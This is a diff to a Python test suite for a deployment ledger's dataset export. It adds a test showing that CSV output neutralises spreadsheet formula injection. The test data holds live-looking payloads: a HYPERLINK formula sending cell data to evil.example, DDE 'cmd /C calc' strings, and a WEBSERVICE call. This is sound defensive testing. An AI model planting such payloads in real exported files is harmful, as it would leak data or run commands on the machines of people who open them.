@@ -81,11 +81,14 @@ def deployment(
     workflow: bytes | None = None,
     training_result: Callable[[dict], dict] = lambda r: {"record": r, "record_type": "training"},
     mark: str | None = DEPLOYED,
+    info: dict | None = None,
+    analysis: dict | None = None,
 ) -> None:
     """One deployment written with the ledger API; ``change`` edits the training record
     before it is signed (what a buggy or hostile writer with the key could sign)."""
     digest = _compiled_digest(workflow) if workflow is not None else None
-    metadata: dict = {"deployment": dict(INFO)}
+    info = dict(INFO if info is None else info)
+    metadata: dict = {"deployment": info}
     attachments = None
     if workflow is not None:
         metadata["workflow"] = {"sha256": digest, "file": {"path": "workflow.yaml", "sha256": sha256_hex(workflow),
@@ -101,12 +104,12 @@ def deployment(
         return {"step": step, "sequence": written[-1].sequence, "sha256": written[-1].envelope_sha256}
 
     cited = [add("mark_deployment_time", {"outputs": {"deployed_at": mark} if mark else {}})]
-    analysis = _analysis()
+    analysis = analysis or _analysis()
     cited.append(add("analyze_differences", {"analysis": analysis, "outputs": {}}))
     if decision is not None:
         cited.append(add("decisions", {"outputs": {}, "decision": decision, "action": {"status": "not_configured"}}))
     record = build_training_record(
-        deployment={"service": "api", "id": name, **INFO}, analysis=analysis, decision=decision, cited=cited,
+        deployment={"service": "api", "id": name, **info}, analysis=analysis, decision=decision, cited=cited,
         label=label,
     )
     change(record)
@@ -295,3 +298,53 @@ def test_export_datasheet_counts_the_contradictions(make, trust_file, tmp_path):
     assert sheet["counts"]["used"] == 1 and sheet["counts"]["excluded"] == 1
     assert sheet["counts"]["excluded_by_reason"] == {"training record contradicts the decision record": 1}
     assert [e["branch"] for e in sheet["excluded"]] == ["refs/heads/afdp/api/relabelled"]
+
+
+# -- CSV that no spreadsheet runs ------------------------------------------------------------
+HOSTILE = {
+    "version": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "environment": "+cmd|' /C calc'!A0",
+    "commit": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "deployer": "=WEBSERVICE(\"https://evil.example\")",
+}
+
+
+def test_csv_export_carries_no_formula_and_reads_back_exactly(make, trust_file, tmp_path):
+    import csv
+
+    from afdp.learn.dataset import read_dataset
+
+    repo, build = make
+    decreased = _analysis()
+    decreased["metrics"]["latency_p99"].update(baseline=0.16, impact=0.1, increase=-0.06, change=-0.375, factor=0.625)
+    info = {**INFO, **HOSTILE}
+    build("hostile", info=info, analysis=decreased, decision={**ROLLBACK, "label": "'-1+1"})
+    build("quoted", info={**INFO, "version": "'quoted"}, decision={**ROLLBACK, "label": "\t=1+1"})
+    csv_out = export_dataset(repo, trust_file, fmt="csv", out=tmp_path / "rows.csv")
+    assert csv_out.history.excluded == [], csv_out.history.excluded
+    rows = {r["deployment"]: r for r in csv_out.history.rows}
+    assert rows["hostile"]["version"] == HOSTILE["version"] and rows["hostile"]["label"] == "'-1+1"
+    with open(csv_out.path, newline="") as handle:
+        cells = list(csv.DictReader(handle))
+    types = {c["column"]: c["type"] for c in csv_out.datasheet["columns"]}
+    for row in cells:
+        for column, cell in row.items():
+            if types[column].startswith("string"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    hostile = next(r for r in cells if r["deployment"] == "hostile")
+    assert hostile["version"] == "'" + HOSTILE["version"]
+    assert hostile["environment"] == "'" + HOSTILE["environment"]
+    assert hostile["commit"] == "'" + HOSTILE["commit"]
+    assert hostile["label"] == "''-1+1" and hostile["decision"] == "rollback_on_regression"
+    assert hostile["impact.latency_p99.increase"] == "-0.06"  # a number stays a number
+    assert HOSTILE["deployer"] not in csv_out.path.read_text()  # never a column
+    quoted = next(r for r in cells if r["deployment"] == "quoted")
+    assert quoted["version"] == "''quoted" and quoted["label"] == "'\t=1+1"
+    assert read_dataset(csv_out.path) == csv_out.history.rows  # exact read-back
+    assert "OWASP" in csv_out.datasheet["dataset"]["csv_text_cells"]
+    # Parquet and JSON Lines keep every value raw
+    for fmt in ("jsonl", "parquet"):
+        done = export_dataset(repo, trust_file, fmt=fmt, out=tmp_path / f"rows.{fmt}")
+        assert "csv_text_cells" not in done.datasheet["dataset"]
+        raw = {r["deployment"]: r for r in read_dataset(done.path)}
+        assert raw["hostile"]["version"] == HOSTILE["version"] and raw["quoted"]["version"] == "'quoted"
